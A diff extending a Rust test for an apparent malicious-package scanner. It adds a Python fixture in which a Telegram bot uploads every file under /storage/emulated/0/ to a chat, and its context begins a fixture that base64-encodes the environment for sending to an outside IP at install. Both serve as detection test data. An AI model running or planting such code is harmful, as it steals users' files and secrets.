@@ -976,6 +976,20 @@ fn destinations_in_connections_bots_and_curl_count_as_chosen() {
     // The same bot built from a token its caller gives: configured, high.
     let configured = bot.replace(&format!("'{token}'"), "os.environ['BOT']");
     assert_eq!(find("pkg/b.py", &configured, "exfiltration"), Some(Severity::High));
+    // Walked files sent by a bot whose token the file holds (wherever the
+    // bot is built): a bulk upload to the author's chat, high; the token
+    // alone is a medium hardcoded secret.
+    let upload = format!(
+        "import os, telebot\nclass Up:\n    def __init__(self, token, chat):\n        \
+         self.bot = telebot.TeleBot(token)\n        self.chat = chat\n    def go(self, top):\n        \
+         for root, _, names in os.walk(top):\n            for n in names:\n                \
+         self.bot.send_document(self.chat, open(os.path.join(root, n), 'rb'))\n\
+         Up('{token}', '42').go('/storage/emulated/0/')\n"
+    );
+    assert_eq!(find("pkg/up.py", &upload, "bulk-upload"), Some(Severity::High));
+    assert_eq!(find("pkg/up.py", &upload, "hardcoded-secret"), Some(Severity::Medium));
+    let unknown = upload.replace(&format!("'{token}'"), "os.environ['BOT']");
+    assert_eq!(find("pkg/up.py", &unknown, "bulk-upload"), Some(Severity::Medium));
     // curl run at install with the environment in its URL.
     let curl = "import os, base64, subprocess\nURL = 'http://203.0.113.7:8000'\n\
                 env = base64.b64encode(str(dict(os.environ)).encode()).decode()\n\
